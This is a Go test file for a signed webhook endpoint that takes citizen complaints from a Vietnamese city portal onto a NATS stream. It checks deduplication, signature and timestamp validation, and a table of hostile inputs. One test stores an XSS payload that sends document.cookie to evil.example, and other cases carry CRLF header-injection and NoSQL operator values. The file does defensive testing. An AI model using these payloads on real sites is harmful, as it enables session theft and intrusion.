package portal_test

import (
	"bytes"
	"context"
	"net/http"
	"strings"
	"testing"
	"time"

	"pakn.local/services/internal/feedback"
	"pakn.local/services/internal/natsbus"
)

func TestPushFullEvent(t *testing.T) {
	b := startBus(t)
	h := newServer(b, secret)

	r := accepted(t, signedPost(t, h, fixture(t, "event_full.json")))

	items := b.items(t)
	if len(items) != 1 {
		t.Fatalf("%d items on the stream, want 1", len(items))
	}
	it := items[0]
	checks := []struct{ name, got, want string }{
		{"key", it.Key, "portal:DVC-79-2026-0048172"},
		{"code", string(it.Code), r.TrackingCode},
		{"channel", string(it.Channel), "portal"},
		{"received_at", it.ReceivedAt.Format(time.RFC3339), "2026-11-20T00:42:13Z"},
		{"title", it.Title, "Ổ gà lớn trên đường Tên Lửa"},
		{"category", it.Category, "Giao thông"},
		{"ward", it.Ward, "Bình Trị Đông B"},
		{"address", it.Address, "412 Tên Lửa, phường Bình Trị Đông B, quận Bình Tân"},
		{"citizen.id", it.Citizen.ID, "VNEID-079188004512"},
		{"citizen.name", it.Citizen.Name, "Nguyễn Thị Minh Thư"},
		{"citizen.phone", string(it.Citizen.Phone), "+84903123456"},
		{"citizen.email", it.Citizen.Email, "minhthu.nguyen@example.vn"},
		{"language", it.Language, "vi"},
	}
	for _, c := range checks {
		if c.got != c.want {
			t.Errorf("%s = %q, want %q", c.name, c.got, c.want)
		}
	}
	if !strings.HasPrefix(it.Content, "Đoạn đường Tên Lửa trước số 412") || !strings.HasSuffix(it.Content, "vá lại mặt đường sớm.") {
		t.Errorf("content = %q", it.Content)
	}
	if it.Location == nil || it.Location.Lat != 10.7509 || it.Location.Lng != 106.6128 {
		t.Errorf("location = %+v", it.Location)
	}
	if len(it.Attachments) != 2 || it.Attachments[1] != (feedback.Attachment{
		URL:         "https://dichvucong.hochiminhcity.gov.vn/tep/2026/11/20/8f3c1a7e-o-ga-ten-lua-2.jpg",
		Name:        "o-ga-ten-lua-2.jpg",
		ContentType: "image/jpeg",
	}) {
		t.Errorf("attachments = %+v", it.Attachments)
	}
}

func TestPushSameEventTwice(t *testing.T) {
	b := startBus(t)
	h := newServer(b, secret)
	body := fixture(t, "event_minimal.json")

	first := accepted(t, signedPost(t, h, body))
	// The portal's retry is signed afresh, seconds later.
	second := accepted(t, post(t, h, request{body: body, sig: sign(body, time.Now().Add(3*time.Second))}))
	if first.TrackingCode != second.TrackingCode {
		t.Fatalf("codes %s then %s for one event", first.TrackingCode, second.TrackingCode)
	}
	if n := b.count(t, natsbus.IntakeStream); n != 1 {
		t.Fatalf("%d items on the stream, want 1", n)
	}

	// The same event_id with other content is not a retry: refused, and
	// the first item stands alone.
	other := bytes.Replace(body, []byte("không sáng"), []byte("bị đổ"), 1)
	rec := signedPost(t, h, other)
	if rec.Code != http.StatusConflict || errorBody(t, rec).Code != feedback.ECONFLICT {
		t.Fatalf("reused event_id: status %d, body %s", rec.Code, rec.Body)
	}
	if n := b.count(t, natsbus.IntakeStream); n != 1 {
		t.Fatalf("%d items on the stream, want 1", n)
	}
}

// TestPushHTMLStoredAsText: markup is the citizen's text, kept byte for byte;
// it is escaped where it is shown, never stripped where it is taken in.
func TestPushHTMLStoredAsText(t *testing.T) {
	b := startBus(t)
	h := newServer(b, secret)
	accepted(t, signedPost(t, h, fixture(t, "event_html.json")))
	items := b.items(t)
	if len(items) != 1 {
		t.Fatalf("%d items, want 1", len(items))
	}
	want := "Rác tồn đọng ở đầu hẻm 1041 Hương Lộ 2 <script>alert('xss')</script><img src=x onerror=\"fetch('https://evil.example/?c='+document.cookie)\"> &amp; bốc mùi.\nĐề nghị thu gom."
	if items[0].Content != want {
		t.Fatalf("content altered:\n got %q\nwant %q", items[0].Content, want)
	}
	if items[0].Title != "Rác <b>tồn đọng</b>" {
		t.Fatalf("title altered: %q", items[0].Title)
	}
	if got := items[0].ReceivedAt; !got.Equal(time.Date(2026, 11, 22, 3, 15, 30, 250e6, time.UTC)) {
		t.Fatalf("received_at %s", got)
	}
}

func TestPushHostile(t *testing.T) {
	b := startBus(t)
	h := newServer(b, secret)
	unconfigured := newServer(b, nil)
	now := time.Now()
	valid := fixture(t, "event_minimal.json")
	event := func(fields string) []byte {
		return []byte(`{"event_id":"DVC-79-2026-0049999","submitted_at":"2026-11-21T19:05:00Z",` + fields + `}`)
	}
	signed := func(body []byte) request { return request{body: body, sig: sign(body, now)} }
	big := event(`"content":"` + strings.Repeat("ổ gà ", feedback.MaxBodyBytes/5) + `"`)

	cases := []struct {
		name    string
		handler http.Handler
		req     request
		status  int
		code    string
		field   string
	}{
		{"secret not configured", unconfigured, signed(valid), 503, feedback.ENOTREADY, ""},
		{"bad MAC", h, request{body: valid, sig: "t=" + unix(now) + ",v1=" + strings.Repeat("ab", 32)}, 401, feedback.EUNAUTHORIZED, "X-Portal-Signature"},
		{"MAC over a different body", h, request{body: valid, sig: sign(event(`"content":"khác"`), now)}, 401, feedback.EUNAUTHORIZED, "X-Portal-Signature"},
		{"signed with another secret", h, request{body: valid, sig: signWith([]byte("guessed"), valid, now)}, 401, feedback.EUNAUTHORIZED, "X-Portal-Signature"},
		{"missing header", h, request{body: valid}, 401, feedback.EUNAUTHORIZED, "X-Portal-Signature"},
		{"skew 301 s past", h, request{body: valid, sig: sign(valid, now.Add(-301*time.Second))}, 401, feedback.EUNAUTHORIZED, "X-Portal-Signature"},
		{"skew 301 s future", h, request{body: valid, sig: sign(valid, now.Add(301*time.Second))}, 401, feedback.EUNAUTHORIZED, "X-Portal-Signature"},
		{"replay of an old valid signature", h, request{body: valid, sig: sign(valid, now.Add(-2*time.Hour))}, 401, feedback.EUNAUTHORIZED, "X-Portal-Signature"},
		{"malformed header", h, request{body: valid, sig: "sha256=" + strings.Repeat("ab", 32)}, 401, feedback.EUNAUTHORIZED, "X-Portal-Signature"},
		{"timestamp only", h, request{body: valid, sig: "t=" + unix(now)}, 401, feedback.EUNAUTHORIZED, "X-Portal-Signature"},
		{"wrong Content-Type", h, request{body: valid, sig: sign(valid, now), contentType: "text/plain"}, 415, feedback.EUNSUPPORTED, ""},
		{"form Content-Type", h, request{body: valid, sig: sign(valid, now), contentType: "application/x-www-form-urlencoded"}, 415, feedback.EUNSUPPORTED, ""},
		{"no Content-Type", h, request{body: valid, sig: sign(valid, now), contentType: "-"}, 415, feedback.EUNSUPPORTED, ""},
		{"body over the limit", h, signed(big), 413, feedback.ETOOLARGE, ""},
		{"invalid UTF-8", h, signed(event(`"content":"ngập nước ` + "\xff\xfe" + `"`)), 400, feedback.EINVALID, ""},
		{"NUL bytes raw", h, signed(event(`"content":"ngập` + "\x00\x00" + `nước"`)), 400, feedback.EINVALID, ""},
		{"NUL bytes escaped", h, signed(event(`"content":"ngập\u0000nước"`)), 400, feedback.EINVALID, "content"},
		{"operator object as content", h, signed(event(`"content":{"$gt":""}`)), 400, feedback.EINVALID, "content"},
		{"operator object as event_id", h, signed([]byte(`{"event_id":{"$ne":null},"submitted_at":"2026-11-21T19:05:00Z","content":"x"}`)), 400, feedback.EINVALID, "event_id"},
		{"unknown field", h, signed(event(`"content":"ngập nước","priority":"urgent"`)), 400, feedback.EINVALID, "priority"},
		{"unknown nested field", h, signed(event(`"content":"ngập nước","citizen":{"phone":"+84903123456","cccd":"079188004512"}`)), 400, feedback.EINVALID, "cccd"}, // web.DecodeJSON names the leaf only
		{"missing event_id", h, signed([]byte(`{"submitted_at":"2026-11-21T19:05:00Z","content":"ngập nước"}`)), 400, feedback.EINVALID, "event_id"},
		{"blank event_id", h, signed([]byte(`{"event_id":"  ","submitted_at":"2026-11-21T19:05:00Z","content":"ngập nước"}`)), 400, feedback.EINVALID, "event_id"},
		{"event_id with a newline", h, signed([]byte(`{"event_id":"DVC-1\r\nNats-Msg-Id: x","submitted_at":"2026-11-21T19:05:00Z","content":"ngập nước"}`)), 400, feedback.EINVALID, "event_id"},
		{"missing content", h, signed(event(`"title":"Ngập"`)), 400, feedback.EINVALID, "content"},
		{"missing submitted_at", h, signed([]byte(`{"event_id":"DVC-1","content":"ngập nước"}`)), 400, feedback.EINVALID, "submitted_at"},
		{"bad submitted_at", h, signed([]byte(`{"event_id":"DVC-1","submitted_at":"21/11/2026 19:05","content":"ngập nước"}`)), 400, feedback.EINVALID, "submitted_at"},
		{"submitted_at two days ahead", h, signed([]byte(`{"event_id":"DVC-1","submitted_at":"` + now.Add(49*time.Hour).Format(time.RFC3339) + `","content":"ngập nước"}`)), 400, feedback.EINVALID, "submitted_at"},
		{"submitted_at zero", h, signed([]byte(`{"event_id":"DVC-1","submitted_at":"0001-01-01T00:00:00Z","content":"ngập nước"}`)), 400, feedback.EINVALID, "submitted_at"},
		{"location without lng", h, signed(event(`"content":"ngập nước","location":{"lat":10.75}`)), 400, feedback.EINVALID, "location"},
		{"location out of range", h, signed(event(`"content":"ngập nước","location":{"lat":106.6,"lng":10.75}`)), 400, feedback.EINVALID, "location"},
		{"javascript attachment", h, signed(event(`"content":"ngập nước","attachments":[{"url":"javascript:alert(1)"}]`)), 400, feedback.EINVALID, "attachments.url"},
		{"content too long", h, signed(event(`"content":"` + strings.Repeat("a", feedback.MaxContentRunes+1) + `"`)), 400, feedback.EINVALID, "content"},
		{"two JSON values", h, signed(append(append([]byte{}, valid...), valid...)), 400, feedback.EINVALID, ""},
		{"JSON array", h, signed([]byte(`[` + string(valid) + `]`)), 400, feedback.EINVALID, ""},
		{"empty body", h, signed(nil), 400, feedback.EINVALID, ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			rec := post(t, tc.handler, tc.req)
			if rec.Code != tc.status {
				t.Fatalf("status %d, want %d; body %s", rec.Code, tc.status, rec.Body)
			}
			d := errorBody(t, rec)
			if d.Code != tc.code || d.Field != tc.field {
				t.Fatalf("error %+v, want code %q field %q", d, tc.code, tc.field)
			}
			if rec.Code == http.StatusServiceUnavailable && rec.Header().Get("Retry-After") == "" {
				t.Fatal("503 without Retry-After")
			}
			if n := b.count(t, natsbus.IntakeStream); n != 0 {
				t.Fatalf("%d items on the stream after a refused request", n)
			}
		})
	}
}

func TestPushNATSUnavailable(t *testing.T) {
	b := startBus(t)
	h := newServer(b, secret)
	b.nats.Shutdown()
	// The portal's own request timeout ends the wait for NATS.
	ctx, cancel := context.WithTimeout(context.Background(), 500*time.Millisecond)
	defer cancel()
	body := fixture(t, "event_minimal.json")
	rec := post(t, h, request{body: body, sig: sign(body, time.Now()), ctx: ctx})
	if rec.Code != http.StatusServiceUnavailable {
		t.Fatalf("status %d, want 503; body %s", rec.Code, rec.Body)
	}
	if rec.Header().Get("Retry-After") == "" {
		t.Fatal("503 without Retry-After")
	}
	if d := errorBody(t, rec); d.Code != feedback.EUNAVAILABLE {
		t.Fatalf("error %+v", d)
	}
}
